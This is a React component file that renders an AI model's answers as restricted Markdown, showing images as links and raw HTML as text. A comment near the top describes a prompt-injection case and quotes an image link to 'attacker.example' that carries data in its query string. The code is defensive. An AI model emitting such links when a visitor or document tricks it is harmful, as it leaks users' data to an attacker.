'use client';

import Markdown from 'markdown-to-jsx';
import { type AnchorHTMLAttributes, Fragment, type ImgHTMLAttributes, type TableHTMLAttributes } from 'react';
import { CodeBlock } from './code-block';

function Link(props: AnchorHTMLAttributes<HTMLAnchorElement>) {
  return <a {...props} target="_blank" rel="noopener noreferrer" />;
}

/**
 * An image in an answer is never loaded: a model tricked (by a visitor or a document) into writing
 * `![](https://attacker.example/?data=…)` would make the browser send that address away. It is shown
 * as a link the visitor may choose to open.
 */
function Image({ src, alt }: ImgHTMLAttributes<HTMLImageElement>) {
  let url: URL | null = null;
  try {
    url = typeof src === 'string' ? new URL(src) : null;
  } catch {}
  const web = url && (url.protocol === 'https:' || url.protocol === 'http:') ? url : null;
  const label = `🖼 ${alt?.trim() || web?.hostname || ''}`.trim();
  return web ? <Link href={web.href}>{label}</Link> : <span>{label}</span>;
}

/** A table scrolls sideways inside its own frame, never the conversation. */
function Table(props: TableHTMLAttributes<HTMLTableElement>) {
  return (
    // biome-ignore lint/a11y/noNoninteractiveTabindex: a scrollable region must be reachable by keyboard.
    <div className="parley-table" tabIndex={0}>
      <table {...props} />
    </div>
  );
}

const options = {
  // Model output is untrusted: raw HTML is shown as text, never parsed.
  disableParsingRawHTML: true,
  forceBlock: true,
  // The blocks go straight into .parley-markdown, whose styles space them.
  wrapper: Fragment,
  overrides: {
    a: { component: Link },
    img: { component: Image },
    pre: { component: CodeBlock },
    table: { component: Table },
  },
};

/**
 * An answer as safe Markdown: no raw HTML, sanitized URLs, links that open apart. markdown-to-jsx 7
 * is about 7 KB gzipped where version 9 is about 31 KB, for the same safe subset.
 */
export function MarkdownText({ text }: { text: string }) {
  return (
    <div className="parley-markdown">
      <Markdown options={options}>{text}</Markdown>
    </div>
  );
}
